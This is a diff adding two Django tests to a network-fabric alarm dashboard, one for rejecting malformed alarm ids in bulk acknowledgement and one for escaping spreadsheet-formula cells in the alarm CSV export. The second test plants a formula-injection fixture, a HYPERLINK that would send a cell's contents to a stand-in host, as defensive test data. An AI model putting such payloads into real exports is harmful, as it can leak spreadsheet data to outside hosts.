@@ -282,3 +282,34 @@ def test_dashboard_top_tables_name_the_fabric(alarm, users, topo, client_for):
     row = c.get("/dashboard/summary.json").json()["top_congested"][0]
     assert row["fabric_name"] == topo.fabric.name
     assert f"<tr><td>{topo.fabric.name}</td><td><a" in c.get("/").content.decode()
+
+
+def test_bulk_acknowledge_refuses_ids_beyond_a_row_id_and_writes_nothing(alarm, users, client_for, caplog):
+    """A 20-digit or negative id is a 400 naming the field (it overflowed the database's 64-bit
+    integer: a 500 with a traceback); no alarm in the post is acknowledged."""
+    from events.models import Alarm
+
+    op = client_for("operator", raise_request_exception=False)
+    for bad in ("99999999999999999999999", "-1", "+3", " 3"):
+        resp = op.post("/alarms/acknowledge/", {"alarm": [alarm.pk, bad]})
+        assert resp.status_code == 400 and b"alarm" in resp.content, bad
+    assert Alarm.objects.get(pk=alarm.pk).acknowledged_by_id is None
+    assert not [r for r in caplog.records if r.levelname == "ERROR"]
+
+
+def test_alarm_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(alarm, users, client_for):
+    """Object names and messages come from the fabric (NodeDescription is set by each host): a
+    cell starting with =, +, -, @ is written with a leading apostrophe (weft.csvcells, as the
+    ports CSV); the alarm CSV wrote them as they were."""
+    import csv
+    import io
+
+    from events.models import Alarm
+
+    Alarm.objects.filter(pk=alarm.pk).update(
+        object_repr='=HYPERLINK("http://x.example/?"&A1,"open")', message="@SUM(1+1)", object_key="-x"
+    )
+    body = client_for("viewer").get("/alarms/export.csv").content.decode()
+    (row,) = list(csv.DictReader(io.StringIO(body)))
+    assert row["object"] == '\'=HYPERLINK("http://x.example/?"&A1,"open")'
+    assert (row["message"], row["object_key"], row["count"]) == ("'@SUM(1+1)", "'-x", "1")
